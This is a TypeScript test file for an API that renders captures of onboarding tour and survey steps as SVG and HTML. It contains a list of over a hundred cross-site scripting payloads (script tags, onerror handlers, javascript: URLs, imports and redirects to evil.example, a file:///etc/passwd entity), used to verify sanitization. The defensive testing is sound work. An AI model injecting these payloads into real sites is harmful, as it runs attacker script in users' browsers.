import type { Appearance } from '@usher/domain';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Api, startApi } from '../../../../test/api.ts';
import { engine } from '../../../../test/engine.ts';
import { addSignedIn, type Browser } from '../../../../test/sign-in.ts';
import { buildPicture } from './picture.ts';
import { renderHtml } from './render-html.ts';
import { renderSvg } from './render-svg.ts';

let api: Api;
beforeAll(async () => {
  api = await startApi({ inTest: false });
});
afterAll(() => api.stop());

/** Creates a tour with one step, and finds its capture. */
async function captured(step: object = { title: 'Hello', buttons: [{ text: 'Next' }] }) {
  const { body } = await api.post('/v3/edit/tours', { name: 'Welcome', steps: [step] });
  const [first] = body.tour.steps;
  return { tour: body.tour, step: first, id: await latest(body.tour.id, first.id) };
}
async function latest(tourId: string, stepId: string): Promise<string> {
  const { changes } = (await api.get(`/v3/edit/tours/${tourId}/changes`)).body;
  const found = changes.find(({ model_id }: { model_id: string }) => model_id === stepId);
  return found.options.capture_id[1];
}

describe('a capture', () => {
  it('shows how the step looked', async () => {
    const { tour, step, id } = await captured({ title: 'Hello', backdrop: true, buttons: [{ text: 'Next' }] });
    const { status, body } = await api.get(`/v3/edit/captures/${id}`);
    expect(status).toBe(200);
    expect(Object.keys(body.capture)).toEqual(['id', 'created_at', 'updated_at', 'experience_id', 'model_id', 'look']);
    expect(body.capture).toMatchObject({ id, experience_id: tour.id, model_id: step.id });
    expect(body.capture.created_at).toBe(body.capture.updated_at);
    expect(body.capture.look).toMatchObject({
      kind: 'tour',
      style: null,
      fields: { title: 'Hello', body: null, backdrop: true },
      buttons: [{ text: 'Next' }],
      items: [],
    });
  });

  it('stays the same when the step changes or the tour is deleted', async () => {
    const { tour, step, id } = await captured();
    const paths = [id, `${id}.svg`, `${id}.html`].map((name) => `/v3/edit/captures/${name}`);
    const look = () => Promise.all(paths.map(async (path) => (await api.get(path)).text));
    const before = await look();
    await api.patch(`/v3/edit/tours/${tour.id}`, { steps: [{ id: step.id, title: 'Other' }] });
    expect(await latest(tour.id, step.id)).not.toBe(id);
    expect(await look()).toEqual(before);
    await api.send('DELETE', `/v3/edit/tours/${tour.id}`);
    expect(await look()).toEqual(before);
  });

  describe('of an autosave', () => {
    let now = Date.parse('2029-04-07T12:00:00.000Z');
    /** Saves a title every ten seconds, and returns the ID of the capture. */
    const open = async () => {
      const server = await startApi({ now: () => now });
      const { tour } = (await server.post('/v3/edit/tours', { name: 'Welcome', steps: [{ title: 'Hello' }] })).body;
      const path = `/v3/edit/tours/${tour.id}`;
      const save = async (params: object, as: Pick<Browser, 'patch' | 'get'> = server): Promise<string> => {
        now += 10_000;
        const step = { id: tour.steps[0].id, title: `At ${now}` };
        expect((await as.patch(path, { steps: [step], ...params })).status).toBe(200);
        const { changes } = (await server.get(`${path}/changes`)).body;
        return changes.find((one: { model_id: string }) => one.model_id === step.id).options.capture_id[1];
      };
      const exists = async (id: string) => (await server.get(`/v3/edit/captures/${id}`)).status === 200;
      return { server, path, save, exists };
    };

    it('is deleted when the next one of the same sitting replaces it', async () => {
      const { save, exists } = await open();
      const before = await save({});
      const ids = [await save({ autosave: true }), await save({ autosave: true }), await save({ autosave: true })];
      expect(await Promise.all([before, ...ids].map(exists))).toEqual([true, false, false, true]);
    });

    it('is kept when it was published, or when another person or a pause follows', async () => {
      const { server, path, save, exists } = await open();
      const published = await save({ autosave: true, published_at: '$now' });
      const scheduled = await save({ autosave: true });
      now += 1000;
      await server.patch(path, { published_at: new Date(now + 60_000).toISOString() });
      const mine = await save({ autosave: true });
      const theirs = await save({ autosave: true }, (await addSignedIn(server, 'editor')).browser);
      const early = await save({ autosave: true });
      now += 30 * 60_000;
      const late = await save({ autosave: true });
      const all = [published, scheduled, mine, theirs, early, late];
      expect(await Promise.all(all.map(exists))).toEqual(all.map(() => true));
    });
  });

  it.each([
    ['svg', 'image/svg+xml; charset=utf-8', '<svg '],
    ['html', 'text/html; charset=utf-8', '<!doctype html>'],
  ])('is drawn as %s, without scripts, and is checked before each use', async (format, type, start) => {
    const { id } = await captured({
      title: 'Hello {{first_name}}',
      body: 'This is **it**.',
      buttons: [{ text: 'Go' }],
    });
    const { status, headers, text } = await api.get(`/v3/edit/captures/${id}.${format}`);
    expect(status).toBe(200);
    expect(headers.get('content-type')).toBe(type);
    expect(headers.get('content-security-policy')).toBe(
      "sandbox; default-src 'none'; style-src 'unsafe-inline'; img-src 'self' https: data:",
    );
    expect(headers.get('x-content-type-options')).toBe('nosniff');
    expect(headers.get('cache-control')).toBe('private, no-cache');
    const etag = headers.get('etag') ?? '';
    expect(etag).toMatch(/^W\/"/);
    const askAgain = (more: Record<string, string>) =>
      fetch(`${api.url}/v3/edit/captures/${id}.${format}`, { headers: { 'If-None-Match': etag, ...more } });
    const again = await askAgain({ 'X-Account-Secret': api.account.account_secret });
    expect([again.status, await again.text(), again.headers.get('etag')]).toEqual([304, '', etag]);
    expect((await askAgain({})).status).toBe(403);
    expect(text.startsWith(start)).toBe(true);
    expect(textIn(text)).toEqual(expect.arrayContaining(['{{first_name}}', 'it', 'Go']));
  });

  it('returns 404 for a capture of another account and for an unknown one', async () => {
    const { id } = await captured();
    for (const end of ['', '.svg', '.html']) {
      const foreign = await api.get(`/v3/edit/captures/${id}${end}`, { as: api.other });
      const never = await api.get(`/v3/edit/captures/${'f'.repeat(24)}${end}`);
      expect([foreign.status, never.status]).toEqual([404, 404]);
      expect(foreign.text).toBe(never.text);
    }
    expect((await api.get(`/v3/edit/captures/${id}.png`)).status).toBe(422);
    expect((await api.get(`/v3/edit/captures/none.svg`)).status).toBe(404);
  });
});

interface Element {
  name: string;
  attributes: Record<string, string>;
}

/** Parses our own markup strictly: anything but the simplest form of a tag is an error. */
function parse(source: string): { elements: Element[]; texts: string[] } {
  const elements: Element[] = [];
  const texts: string[] = [];
  const open: string[] = [];
  const tag = /<(\/?)([a-zA-Z][a-zA-Z0-9]*)((?: [a-zA-Z][a-zA-Z0-9-]*="[^"<>]*")*)(\/?)>/y;
  let rest = source.replace(/^<!doctype html>\n/, '').replace(/(<style>)[^<]*(<\/style>)/, '$1$2');
  while (rest !== '') {
    const text = /^[^<]*/.exec(rest)?.[0] ?? '';
    if (text.trim() !== '') texts.push(decode(text.trim()));
    rest = rest.slice(text.length);
    if (rest === '') break;
    tag.lastIndex = 0;
    const found = tag.exec(rest);
    if (!found) throw new Error(`no tag of ours: ${rest.slice(0, 80)}`);
    const [all, isEnd, name = '', params = '', isEmpty] = found;
    rest = rest.slice(all.length);
    if (isEnd) {
      if (open.pop() !== name) throw new Error(`</${name}> closes another element`);
    } else {
      const pairs = [...params.matchAll(/ ([\w-]+)="([^"]*)"/g)];
      elements.push({
        name,
        attributes: Object.fromEntries(pairs.map(([, key, value]) => [key, decode(value ?? '')])),
      });
      if (!isEmpty && !['meta', 'br', 'hr', 'img'].includes(name)) open.push(name);
    }
  }
  expect(open).toEqual([]);
  return { elements, texts };
}

function decode(text: string): string {
  if (text.replace(/&#\d+;/g, '').includes('&')) throw new Error(`an entity that is not ours: ${text}`);
  return text.replace(/&#(\d+);/g, (_, code) => String.fromCodePoint(Number(code)));
}

function textIn(source: string): string[] {
  return parse(source).texts;
}

const shapes = ['x', 'y', 'x1', 'y1', 'x2', 'y2', 'cx', 'cy', 'r', 'rx', 'd', 'width', 'height', 'stroke-width'];
const ours: Record<string, readonly string[]> = {
  ...Object.fromEntries(
    'html head title style body main div span small b h1 h2 h3 h4 h5 h6 p ul ol li blockquote pre em strong del code br hr'
      .split(' ')
      .map((name) => [name, ['class', 'lang']]),
  ),
  meta: ['charset', 'name', 'content'],
  img: ['src', 'alt'],
  svg: ['xmlns', 'width', 'height', 'viewBox', 'role'],
  ...Object.fromEntries(['rect', 'line', 'path', 'circle'].map((name) => [name, ['class', ...shapes]])),
  text: ['class', 'x', 'y', 'font-size', 'textLength', 'lengthAdjust'],
};

/**
 * Expects only known elements and attributes, and only harmless URLs. One `expect` for each element would take ten
 * times as long.
 */
function expectOnlyOurs(source: string): void {
  const isOurs = ({ name, attributes }: Element) =>
    ours[name] !== undefined &&
    Object.keys(attributes).every((key) => ours[name]?.includes(key)) &&
    /^https:/i.test(attributes.src ?? 'https:') &&
    /^[a-z -]*$/.test(attributes.class ?? '');
  expect(parse(source).elements.filter((element) => !isOurs(element))).toEqual([]);
}

const scripts = ['alert(1)', 'alert`1`', 'eval(name)', 'import("//evil.example")', 'location="//evil.example"'];
const attacks = [
  ...scripts.flatMap((code) => [
    `<script>${code}</script>`,
    `"><script>${code}</script>`,
    `'><svg onload=${code}>`,
    `<img src=x onerror="${code}">`,
    `<a href="javascript:${code}">x</a>`,
    `[x](javascript:${code})`,
    `![x](javascript:${code})`,
    `![x](https://a.example/" onerror="${code})`,
    `{{x onload=${code}}}`,
    `</title><script>${code}</script>`,
    `</style><script>${code}</script>`,
    `]]><script>${code}</script>`,
    `--><script>${code}</script>`,
    `<![CDATA[<script>${code}</script>]]>`,
    `<!--<script>${code}//-->`,
    `<iframe srcdoc="<script>${code}</script>">`,
    `<svg><animate onbegin=${code} attributeName=x></svg>`,
    `<math><mi xlink:href="data:x,<script>${code}</script>">`,
    `\u0000<script>${code}</script>`,
    `&lt;script&gt;${code}&lt;/script&gt;`,
  ]),
  '<foreignObject><body onload=alert(1)></foreignObject>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<!ENTITY x SYSTEM "file:///etc/passwd">&x;',
  '`><img src=x onerror=alert(1)>`',
  '```\n</pre><script>alert(1)</script>\n```',
  '<https://a.example/><script>alert(1)</script>',
  '[a](<https://a.example/"onclick=alert(1)>)',
  '![" onload="alert(1)](https://a.example/x.png)',
  '{{#if a == "</title><script>alert(1)</script>"}}x{{/if}}',
  '{{name | "<script>alert(1)</script>"}}',
  '\ud800<script>alert(1)</script>',
  '\u2028<script>alert(1)</script>\u2029',
  '<<script>script>alert(1)<</script>/script>',
  '<x style="background:url(javascript:alert(1))">',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
];

const fieldsWith = (attack: string, preset: string | null = null) => ({
  title: attack,
  body: `${attack}\n\n# ${attack}\n\n- ${attack}\n> ${attack}`,
  dismiss_text: attack,
  preset,
  dropdown_items: [attack, attack],
  label_low: attack,
  label_high: attack,
  placeholder: attack,
  other_text: attack,
  position_type: 'relative_to_screen',
  screen_position: 'center',
});
const looksWith = (attack: string): Appearance[] => [
  ...[null, 'survey_two', 'survey_nps', 'survey_input', 'survey_dropdown'].map(
    (preset): Appearance => ({
      kind: 'survey',
      fields: fieldsWith(attack, preset),
      buttons: [{ text: attack }, { text: attack }],
    }),
  ),
  {
    kind: 'launcher',
    fields: { title: attack, description: attack, trigger_type: 'tab', trigger_text: attack },
    items: [
      { kind: 'url', title: attack, description: attack },
      { kind: 'divider', title: attack },
    ],
  },
  { kind: 'launcher', fields: { title: attack, empty_state_content: attack }, items: [] },
];

describe('attacks in the texts of an Experience', () => {
  it('has more than a hundred attacks', () => {
    expect(new Set(attacks).size).toBeGreaterThan(100);
  });

  // Drawing uses no database, so one engine is enough.
  it.runIf(engine === 'sqlite').each(attacks)('shows an attack as text: %j', (attack) => {
    for (const look of looksWith(attack))
      for (const source of [renderHtml(buildPicture(look)), renderSvg(buildPicture(look))]) expectOnlyOurs(source);
  });

  it('shows attacks as text through the API', async () => {
    const attack = '"><script>alert(1)</script>';
    const { id } = await captured({ title: attack, body: attack, buttons: [{ text: attack }] });
    for (const format of ['svg', 'html']) {
      const { text } = await api.get(`/v3/edit/captures/${id}.${format}`);
      expectOnlyOurs(text);
      expect(text).not.toContain('<script');
    }
  });
});

describe('a picture', () => {
  const step = (fields: object, params: Partial<Appearance> = {}): Appearance => ({
    kind: 'tour',
    fields: { title: 'Hello', position_type: 'relative_to_screen', screen_position: 'center', ...fields },
    buttons: [],
    ...params,
  });
  const words = (look: Appearance) =>
    [renderHtml, renderSvg].map((render) => textIn(render(buildPicture(look))).join(' '));

  it.each([
    [step({}), 'modal'],
    [step({ screen_position: 'bottom_right' }), 'slideout'],
    [step({ screen_position: 'top' }), 'banner'],
    [step({ position_type: 'snap_to_element' }), 'tooltip'],
    [step({ position_type: 'inline' }), 'card'],
    [step({}, { kind: 'tooltip' }), 'tooltip'],
    [step({}, { kind: 'embed', style: 'banner' }), 'banner'],
    [step({}, { kind: 'embed', style: 'card' }), 'card'],
    [{ kind: 'launcher', fields: {}, items: [] } satisfies Appearance, 'launcher'],
  ])('has the frame of the step: %#', (look, frame) => {
    expect(buildPicture(look).frame).toBe(frame);
  });

  it.each([
    [{ preset: 'survey_nps', label_low: 'Never', label_high: 'Surely' }, ['0', '10', 'Never', 'Surely']],
    [{ preset: 'survey_csat' }, ['1 2 3 4 5']],
    [{ preset: 'survey_ces' }, ['1 2 3 4 5 6 7']],
    [{ preset: 'survey_input', placeholder: 'Tell us' }, ['Tell us']],
    [{ preset: 'survey_dropdown', dropdown_items: ['Web', 'Friend'], other_text: 'Else' }, ['Web', 'Friend', 'Else']],
    [{ dismiss_text: 'Not now' }, ['Not now']],
    [{ body: 'One **two** three' }, ['One', 'two', 'three']],
    [
      { body: '{{#if plan == "pro"}}Pro{{else}}Free{{/if}}' },
      ['{{#if plan == "pro"}}', 'Pro', '{{else}}', 'Free', '{{/if}}'],
    ],
    [{ title: 'Hi {{company.name}}' }, ['{{company.name}}']],
    [
      { body: '{{if !(a || b > 1) && {time_ago c in="days"} > 2}}x{{/if}}{{global "d"}}{{time_ago e}}' },
      ['{{#if !(a || b > 1) && time_ago c in="days" > 2}}', 'x', '{{global "d"}}', '{{time_ago e}}'],
    ],
    [{ title: 'Broken {{' }, ['Broken {{']],
  ])('shows every part: %j', (fields, expected) => {
    for (const text of words(step(fields))) for (const word of expected) expect(text).toContain(word);
  });

  it('shows the fallback of a merge tag instead of the tag', () => {
    for (const text of words(step({ title: 'Hi {{first_name | fallback: "good to see you"}}' }))) {
      expect(text).toContain('good to see you');
      expect(text).not.toContain('first_name');
    }
  });

  it('draws the primary button last and in the accent color, as the script does', () => {
    const look = step({}, { buttons: [{ text: 'Next', is_primary: true }, { text: 'Back' }, { text: 'Not now' }] });
    for (const text of words(look)) expect(text).toMatch(/Back\s+Not now\s+Next/);
    expect(renderHtml(buildPicture(look))).toContain('<span class="button main">Next</span>');
    const { elements } = parse(renderSvg(buildPicture(look)));
    const boxes = elements.filter(({ name, attributes }) => name === 'rect' && attributes.height === '40');
    expect(boxes.map(({ attributes }) => attributes.class)).toEqual(['soft', 'soft', 'accent']);
    const places = boxes.map(({ attributes }) => Number(attributes.x));
    expect(places).toEqual(places.toSorted((a, b) => a - b));
  });

  it('shows the items of a launcher except hidden ones', () => {
    const items = [
      { kind: 'url', title: 'Docs' },
      { kind: 'url', title: 'Secret', hide: true },
      { kind: 'divider', title: 'More' },
    ];
    for (const text of words({ kind: 'launcher', fields: { title: 'Help', list_type: 'checklist' }, items })) {
      for (const word of ['Help', 'Docs', 'More']) expect(text).toContain(word);
      expect(text).not.toContain('Secret');
    }
  });

  it('shows boxes only for items that can be checked off', () => {
    const items = [
      { kind: 'url', title: 'Docs' },
      { kind: 'tour', title: 'Tour' },
    ];
    const look = { kind: 'launcher' as const, fields: { title: 'Help', list_type: 'checklist' }, items };
    expect(buildPicture(look).parts).toMatchObject([{}, { mark: 'link' }, { mark: 'box' }]);
  });

  it('shows a Markdown description in one line', () => {
    const description = '# All\n\nThree **things**:\n\n1. one\n2. [two](/x)\n\n{{#if plan}}paid{{/if}}';
    const items = [{ kind: 'url', title: 'Docs', description: '*Read* them' }];
    for (const text of words({ kind: 'launcher', fields: { title: 'Help', description }, items })) {
      expect(text).not.toMatch(/\*|# All|\[two\]/);
      for (const word of ['All', 'Three', 'things', 'one', 'two', 'paid', 'Read', 'them']) expect(text).toContain(word);
    }
  });

  it('keeps every line of an SVG within its card', () => {
    const body = `${'word '.repeat(200)}${'W'.repeat(300)} {{${'a'.repeat(200)}}}\n\n- ${'字'.repeat(100)}`;
    const { elements } = parse(renderSvg(buildPicture(step({ body }, { buttons: [{ text: 'long '.repeat(40) }] }))));
    const [card] = elements.filter(({ attributes }) => attributes.class === 'card');
    const right = Number(card?.attributes.x) + Number(card?.attributes.width);
    const lines = elements.filter(({ name }) => name === 'text');
    expect(lines.length).toBeGreaterThan(10);
    for (const { attributes } of lines)
      expect(Number(attributes.x) + Number(attributes.textLength)).toBeLessThanOrEqual(right);
  });

  it('shows the picture of the step, or its description in a drawing that can load none', () => {
    const path = `/media/${'a'.repeat(24)}/${'b'.repeat(32)}-64x40.png`;
    const look = step({ picture: path, picture_alt: 'The login page' });
    const [image] = parse(renderHtml(buildPicture(look))).elements.filter(({ name }) => name === 'img');
    expect(image?.attributes).toEqual({ src: path, alt: 'The login page' });
    expect(textIn(renderSvg(buildPicture(look))).join(' ')).toContain('The login page');
    const other = step({ picture: 'https://evil.example/x.png' });
    expect(renderHtml(buildPicture(other))).not.toContain('evil');
  });

  it('loads images only over https', () => {
    const html = renderHtml(
      buildPicture(step({ body: '![one](https://a.example/1.png) ![two](http://a.example/2.png) ![three](/3.png)' })),
    );
    expect(parse(html).elements.flatMap(({ attributes }) => attributes.src ?? [])).toEqual(['https://a.example/1.png']);
    expect(textIn(html)).toEqual(expect.arrayContaining(['two', 'three']));
  });
});
